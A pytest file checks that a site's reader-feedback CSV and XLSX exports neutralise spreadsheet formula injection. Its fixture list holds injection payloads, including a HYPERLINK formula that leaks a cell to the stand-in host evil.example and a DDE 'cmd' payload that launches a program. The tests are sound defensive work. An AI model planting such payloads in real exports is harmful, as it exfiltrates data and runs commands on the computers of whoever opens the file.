"""Reader feedback exports are safe to open in Excel or WPS: a comment that looks like a
formula (anonymous readers write them) is exported as text, as the event export does."""

import csv
import io

import openpyxl
import pytest

from materials.models import Feedback
from tests import factories

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点这里领取补贴")',
    "+86 138 0000 0000 打了三次",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def feedback(site_tree):
    guide = factories.GuidePageFactory(parent=site_tree["library"], title="=挂断再核实")
    Feedback.objects.create(page=guide, helpful=True, comment="很实用")
    for comment in HOSTILE:
        Feedback.objects.create(page=guide, helpful=False, comment=comment)
    return guide


def export(client, fmt):
    response = client.get(f"/admin/snippets/materials/feedback/?export={fmt}")
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_csv_export_neutralises_formulas(client, feedback, editor):
    client.force_login(editor)
    rows = list(csv.reader(io.StringIO(export(client, "csv").decode("utf-8-sig"))))
    comments = {row[3] for row in rows[1:]}
    assert "很实用" in comments  # ordinary text unchanged
    for comment in HOSTILE:
        assert "'" + comment in comments
        assert comment not in comments
    assert {row[0] for row in rows[1:]} == {"'=挂断再核实"}  # page titles too


def test_xlsx_export_neutralises_formulas(client, feedback, editor):
    client.force_login(editor)
    workbook = openpyxl.load_workbook(io.BytesIO(export(client, "xlsx")))
    rows = list(workbook.active.iter_rows(values_only=True))
    comments = {row[3] for row in rows[1:]}
    assert "很实用" in comments
    for comment in HOSTILE:  # XML keeps a carriage return as a line feed
        assert "'" + comment.replace("\r", "\n") in comments
    for row in workbook.active.iter_rows(min_row=2):
        assert all(cell.data_type != "f" for cell in row)


def test_one_neutraliser_serves_every_export():
    from campaigns import exporting
    from core import spreadsheets

    assert exporting.neutralise is spreadsheets.neutralise
    assert spreadsheets.neutralise("=1+1") == "'=1+1"
    assert spreadsheets.neutralise("挂断") == "挂断"
    assert spreadsheets.neutralise(5) == 5
